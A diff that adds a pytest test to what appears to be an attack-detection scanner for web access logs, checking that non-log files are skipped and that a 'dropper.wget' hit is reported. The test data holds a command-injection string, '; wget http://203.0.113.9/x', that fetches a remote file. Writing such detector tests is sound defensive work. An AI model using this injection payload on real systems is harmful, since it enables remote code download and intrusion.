@@ -452,6 +452,17 @@ def test_one_unreadable_file_does_not_stop_the_others(scan4, tmp_path):
     ]
 
 
+def test_a_walk_skips_what_is_not_a_log_in_every_mode(scan4, tmp_path):
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    write(logs / "access.log", NORMAL + ATTACK)
+    write(logs / "notes.log", b"Dear diary,\n; wget http://203.0.113.9/x\n" * 1000)
+    r = scan4(logs)  # inline, --full, pool, pool --full agree
+    assert (r.code, r.hits, r.errors) == (1, [("access.log", 2, "dropper.wget")], [])
+    (notes,) = [f for f in r.files if f["path"].endswith("notes.log")]
+    assert (notes["status"], notes["skipped"], notes["lines"]) == ("skipped", "not a recognised access log", 0)
+
+
 def test_a_directory_with_no_logs_says_so(scan4, tmp_path):
     (tmp_path / "empty").mkdir()
     write(tmp_path / "empty" / "README", b"nothing here\n")
